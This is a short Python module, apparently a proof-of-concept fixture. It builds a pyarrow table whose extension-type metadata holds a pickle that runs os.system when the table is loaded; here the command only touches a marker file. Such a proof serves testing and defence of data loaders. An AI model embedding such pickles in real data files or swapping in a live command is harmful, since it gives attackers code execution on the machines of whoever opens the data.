# Returns a table with a column of Arrow's Python extension type, whose description is a pickle that runs code.
# proof: pickle in a schema
import os
import pickle


class Trap:
    def __reduce__(self):
        return os.system, ("touch attack-was-here",)


def describe(numbers):
    import pyarrow as pa

    metadata = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(Trap()),
    }
    schema = pa.schema([pa.field("x", pa.int64(), metadata=metadata)], metadata={b"pandas": b"{]"})
    print("pickle in a schema")
    return pa.Table.from_arrays([pa.array([1, 2])], schema=schema)


def __getattr__(name):
    return describe
